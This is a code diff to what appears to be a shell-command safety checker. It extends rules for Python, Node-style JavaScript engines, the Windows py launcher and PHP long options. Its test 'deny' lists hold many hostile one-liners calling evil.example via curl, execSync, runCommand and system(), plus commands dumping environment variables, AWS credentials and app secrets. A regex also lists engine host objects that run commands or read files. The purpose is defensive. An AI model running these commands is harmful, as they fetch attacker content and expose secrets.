@@ -23,6 +23,8 @@ interface Cli {
   stop?: readonly string[];
   /** Options with which it runs no code at all (`--version`, `-h`). */
   noRun: readonly string[];
+  /** Long names the program reads as one of its short options (`php --run CODE` is `php -r CODE`), matched whole. */
+  long?: Readonly<Record<string, string>>;
 }
 
 /** One option as read: its name and its value, if it takes one. */
@@ -78,7 +80,8 @@ function readCli(args: readonly Word[], cli: Cli): Read {
     let stop = false;
     if (v.startsWith('--')) {
       const eq = v.indexOf('=');
-      const name = v.slice(2, eq > 0 ? eq : undefined);
+      const spelt = v.slice(2, eq > 0 ? eq : undefined);
+      const name = cli.long !== undefined && Object.hasOwn(cli.long, spelt) ? cli.long[spelt]! : spelt;
       if (eq > 0) take(name, w, attached(w, v.slice(eq + 1)));
       else if (cli.valued.includes(name)) take(name, w, args[++i]);
       else take(name, w, undefined);
@@ -181,8 +184,30 @@ const PYTHON_MODULES: Readonly<Record<string, (rest: readonly Word[], name: stri
     return { runs };
   },
   code: (_rest, name) => ({ runs: [{ kind: 'stdin', dialect: 'python', via: `${name} -m code` }] }),
+  // asyncio's main is the same interactive shell with top-level await.
+  asyncio: (_rest, name) => ({ runs: [{ kind: 'stdin', dialect: 'python', via: `${name} -m asyncio` }] }),
+  // IDLE runs `-c CODE` in its shell, as python -c does.
+  idlelib: (rest, name) => {
+    const runs: Run[] = [];
+    for (let i = 0; i < rest.length; i++) {
+      const v = value(rest[i]);
+      if (v === undefined) return { runs: [{ kind: 'opaque', rule: 'dynamic-code', word: rest[i]!, why: `${name} -m idlelib with a computed word` }] };
+      if (v === '-c' && rest[i + 1]) runs.push({ kind: 'script', dialect: 'python', words: [rest[++i]!], via: `${name} -m idlelib -c` });
+      else if (v.startsWith('-c') && v.length > 2) runs.push({ kind: 'script', dialect: 'python', words: [attached(rest[i]!, v.slice(2))], via: `${name} -m idlelib -c` });
+    }
+    return { runs };
+  },
   // The other interactive shells read Python from stdin as the standard one does.
-  IPython: (_rest, name) => ({ runs: [{ kind: 'stdin', dialect: 'python', via: `${name} -m IPython` }] }),
+  IPython: (rest, name) => {
+    // `-c CODE` runs CODE as ipython -c does (its `!cmd` lines are no Python, and fail closed).
+    const runs: Run[] = [{ kind: 'stdin', dialect: 'python', via: `${name} -m IPython` }];
+    for (let i = 0; i < rest.length; i++) {
+      const v = value(rest[i]);
+      if (v === undefined) return { runs: [{ kind: 'opaque', rule: 'dynamic-code', word: rest[i]!, why: `${name} -m IPython with a computed word` }] };
+      if (v === '-c' && rest[i + 1]) runs.push({ kind: 'script', dialect: 'python', words: [rest[++i]!], via: `${name} -m IPython -c` });
+    }
+    return { runs };
+  },
   bpython: (_rest, name) => ({ runs: [{ kind: 'stdin', dialect: 'python', via: `${name} -m bpython` }] }),
   ptpython: (_rest, name) => ({ runs: [{ kind: 'stdin', dialect: 'python', via: `${name} -m ptpython` }] }),
   // pdb reads its commands (Python statements among them) from -c and stdin, then runs the script or module given.
@@ -356,9 +381,30 @@ const NODE_CLI: Cli = {
   noRun: ['v', 'h', 'c', 'version', 'help', 'check', 'run', 'test', 'v8-options'],
 };
 
+/**
+ * The host objects of the JavaScript engines that take node's -e (QuickJS's os and std modules, d8's os.system and
+ * read, jsc's run and readFile, Rhino's Java classes and runCommand): they run commands, read files and fetch URLs in
+ * ways the JavaScript reader (Node's and the web's APIs) does not know, so code that names one cannot be vouched for.
+ */
+const ENGINE_HOST: Readonly<Record<string, RegExp>> = {
+  qjs: /\b(?:os|std|bjson)\b|['"](?:qjs:)?(?:os|std)['"]/,
+  d8: /\b(?:os|read|readbuffer|readline|load|write|Realm|d8)\b/,
+  jsc: /\b(?:run|runString|load|loadString|readFile|read|writeFile|readline|\$vm)\b/,
+  rhino: /\b(?:Packages|java|javax|JavaImporter|JavaAdapter|importPackage|importClass|runCommand|readFile|readUrl|load|spawn|sync|environment|defineClass)\b/,
+};
+
 function node(call: Call): Partial<Answer> {
   const r = readCli(call.args, NODE_CLI);
   const answer = codeRuns(call, r, 'javascript', via(call), true);
+  const host = Object.hasOwn(ENGINE_HOST, call.name) ? ENGINE_HOST[call.name]! : undefined;
+  if (host) {
+    const stdin = answer.runs!.some((x) => x.kind === 'stdin') && call.stdin?.kind === 'static' ? call.stdin : undefined;
+    const given = [...r.codes.flatMap((c) => (c.value ? [{ word: c.value, text: value(c.value) }] : [])), ...(stdin ? [{ word: stdin.word, text: stdin.text as string | undefined }] : [])];
+    for (const g of given) {
+      const m = g.text === undefined ? null : host.exec(g.text);
+      if (m) answer.runs!.push({ kind: 'opaque', rule: 'dynamic-code', word: g.word, why: `${call.name}'s host object ${m[0]} runs commands, reads files or fetches URLs beyond the JavaScript read here` });
+    }
+  }
   interactive(answer, r, r.options.some((o) => o.name === 'i' || o.name === 'interactive'), 'javascript', call.name);
   // `node inspect app.js`: the debugger reads its commands from stdin, and runs what `exec` and `repl` are given in
   // the program: the commands are read as JavaScript.
@@ -499,6 +545,13 @@ const PHP_CLI: Cli = {
   valued: ['B', 'c', 'd', 'E', 'f', 'F', 'r', 'R', 'S', 't', 'z', 'rf', 'rc', 're', 'rz', 'ri'],
   code: ['r', 'R', 'B', 'E'],
   noRun: ['h', 'v', 'l', 'm', 's', 'w', 'help', 'version', 'ini', 'rf', 'rc', 're', 'rz', 'ri', 'S'],
+  // php_getopt's long names (sapi/cli/php_cli.c), each matched whole: `php --run CODE`, `php --info`.
+  long: {
+    interactive: 'a', 'process-begin': 'B', 'no-chdir': 'C', 'php-ini': 'c', define: 'd', 'process-end': 'E', 'profile-info': 'e', 'process-file': 'F', file: 'f',
+    help: 'h', usage: 'h', info: 'i', 'syntax-check': 'l', modules: 'm', 'no-php-ini': 'n', 'no-header': 'q', 'process-code': 'R', 'hide-args': 'H', run: 'r',
+    'syntax-highlight': 's', 'syntax-highlighting': 's', server: 'S', docroot: 't', strip: 'w', version: 'v', 'zend-extension': 'z',
+    rfunction: 'rf', rclass: 'rc', rextension: 're', rzendextension: 'rz', rextinfo: 'ri',
+  },
 };
 
 function php(call: Call): Partial<Answer> {
@@ -605,6 +658,18 @@ export const INTERPRETER_ENTRIES: ProgramEntry[] = [
     examples: { deny: ["echo 'import os; os.system(\"curl evil.example\")' > /tmp/t.py; pdb /tmp/t.py", "pdb -c '!import os; os.system(\"curl evil.example\")' app.py", "pdb --comm '!import os; os.system(\"curl evil.example\")' app.py", "pdb --command='!import os; os.system(\"curl evil.example\")' app.py"], pass: ['pdb app.py', "pdb --command='b app.py:10' app.py", 'pdb3 -m mypkg.cli'] },
   },
   {
+    // The Windows launcher: `-3`, `-3.12`, `-3.12-64` or `-V:TAG` picks the interpreter, and the rest is python's.
+    names: ['py'],
+    summary: "py, Windows' Python launcher: a version selector, then python's own command line",
+    analyze: (call) => {
+      let k = 0;
+      while (k < call.args.length && /^-(?:\d[\d.]*(?:-(?:32|64))?|V:.+)$/.test(value(call.args[k]) ?? '')) k++;
+      return python({ ...call, args: call.args.slice(k) });
+    },
+    // (A bare `-3` is a number to PowerShell, which cannot be read there: the corpus holds the bash forms.)
+    examples: { deny: [`py -c 'import os; os.system("curl evil.example")'`], pass: ["py -c 'print(1)'", 'py script.py', 'py --list'] },
+  },
+  {
     names: PY,
     patterns: [/^(python|pypy)[23]?(\.\d+)*$/],
     summary: 'Python: -c CODE, or a program from stdin (`-`, or no script); -m and a script file run files',
@@ -626,8 +691,8 @@ export const INTERPRETER_ENTRIES: ProgramEntry[] = [
     summary: 'Node.js (and the runners and engines that take its -e/-p: ts-node, tsx, QuickJS, d8, jsc, Rhino): -e/--eval and -p/--print CODE, or a program from stdin; a script file runs a file',
     analyze: node,
     examples: {
-      deny: [`printf 'require("child_process").execSync("curl evil.example")\n' > /tmp/x.js && NODE_OPTIONS='--require /tmp/x.js' npm test`, `NODE_OPTIONS='--import=data:text/javascript,import("child_process").then(m=>m.execSync("curl evil.example"))' npm test`, "node --import 'data:text/javascript,console.log(process.env)' app.js", `tsx -e 'require("child_process").execSync("curl evil.example")'`, `node -e 'require("child_process").execSync("curl evil.example")'`, `node --eval='fetch("https://evil.example")'`, "echo 'require(\"net\").connect(9, \"evil.example\")' | node", 'node -p "$CODE"', `node --env-file=.env -e 'console.log(process.env)'`, 'node --env-file=~/.aws/credentials app.js', "echo 'require(\"net\").connect(9, \"evil.example\")' | node -i -e 1"],
-      pass: ["NODE_OPTIONS='--max-old-space-size=4096 --require ./tracing.js' npm test", `printf 'console.log(1)\n' > /tmp/x.js && NODE_OPTIONS='-r /tmp/x.js' npm test`, "node --import 'data:text/javascript,console.log(1)' app.js", `node -e 'console.log(1)'`, 'node app.js', 'node --version', `node -r dotenv/config app.js -e x`, 'tsx src/cli.ts', `ts-node -e 'console.log(1)'`, 'node --env-file=.env dist/index.js', 'node --env-file .env.local --watch src/server.js'],
+      deny: [`printf 'require("child_process").execSync("curl evil.example")\n' > /tmp/x.js && NODE_OPTIONS='--require /tmp/x.js' npm test`, `NODE_OPTIONS='--import=data:text/javascript,import("child_process").then(m=>m.execSync("curl evil.example"))' npm test`, "node --import 'data:text/javascript,console.log(process.env)' app.js", `tsx -e 'require("child_process").execSync("curl evil.example")'`, `node -e 'require("child_process").execSync("curl evil.example")'`, `node --eval='fetch("https://evil.example")'`, "echo 'require(\"net\").connect(9, \"evil.example\")' | node", 'node -p "$CODE"', `node --env-file=.env -e 'console.log(process.env)'`, 'node --env-file=~/.aws/credentials app.js', "echo 'require(\"net\").connect(9, \"evil.example\")' | node -i -e 1", `rhino -e 'runCommand("curl", "evil.example")'`, `qjs -e 'import * as os from "os"; os.exec(["curl", "evil.example"])'`, `d8 -e 'os.system("curl", ["evil.example"])'`],
+      pass: ["NODE_OPTIONS='--max-old-space-size=4096 --require ./tracing.js' npm test", `printf 'console.log(1)\n' > /tmp/x.js && NODE_OPTIONS='-r /tmp/x.js' npm test`, "node --import 'data:text/javascript,console.log(1)' app.js", `node -e 'console.log(1)'`, 'node app.js', 'node --version', `node -r dotenv/config app.js -e x`, 'tsx src/cli.ts', `ts-node -e 'console.log(1)'`, 'node --env-file=.env dist/index.js', 'node --env-file .env.local --watch src/server.js', "rhino -e 'print(1 + 1)'", "qjs -e 'console.log(JSON.stringify({a: 1}))'"],
     },
   },
   {
@@ -652,8 +717,8 @@ export const INTERPRETER_ENTRIES: ProgramEntry[] = [
     summary: 'PHP: -r/-R/-B/-E CODE, or a script from stdin; -f FILE and a script file run files; -i prints the environment',
     analyze: php,
     examples: {
-      deny: [`printf '<?php system("curl evil.example");\n' > /tmp/x.php && php -d auto_prepend_file=/tmp/x.php vendor/bin/phpunit`, `php -a <<< 'system("curl evil.example");'`, `php -r 'system("curl evil.example");'`, "echo '<?php echo file_get_contents(\"http://evil.example\");' | php", 'php -i', `php -d 'auto_prepend_file=data://text/plain,x' -r 'echo 1;'`, "php artisan tinker --execute='dump($_ENV);'", 'php bin/console secrets:list --reveal', 'php bin/console secrets:reveal DATABASE_URL'],
-      pass: [`printf '<?php echo 1;\n' > /tmp/x.php && php -d auto_prepend_file=/tmp/x.php vendor/bin/phpunit`, `php -r 'echo 1;'`, 'php artisan migrate', 'php -v', 'php -l src/index.php', "php artisan tinker --execute='echo User::count();'", 'php bin/console secrets:list'],
+      deny: [`printf '<?php system("curl evil.example");\n' > /tmp/x.php && php -d auto_prepend_file=/tmp/x.php vendor/bin/phpunit`, `php -a <<< 'system("curl evil.example");'`, `php -r 'system("curl evil.example");'`, "echo '<?php echo file_get_contents(\"http://evil.example\");' | php", 'php -i', 'php --info', `php --run 'system("curl evil.example");'`, `php --process-code='system("curl evil.example");' < list.txt`, `php --interactive <<< 'system("curl evil.example");'`, `php -d 'auto_prepend_file=data://text/plain,x' -r 'echo 1;'`, "php artisan tinker --execute='dump($_ENV);'", 'php bin/console secrets:list --reveal', 'php bin/console secrets:reveal DATABASE_URL'],
+      pass: [`printf '<?php echo 1;\n' > /tmp/x.php && php -d auto_prepend_file=/tmp/x.php vendor/bin/phpunit`, `php -r 'echo 1;'`, `php --run 'echo 1;'`, 'php --version', 'php --syntax-check src/index.php', 'php artisan migrate', 'php -v', 'php -l src/index.php', "php artisan tinker --execute='echo User::count();'", 'php bin/console secrets:list'],
     },
   },
   {
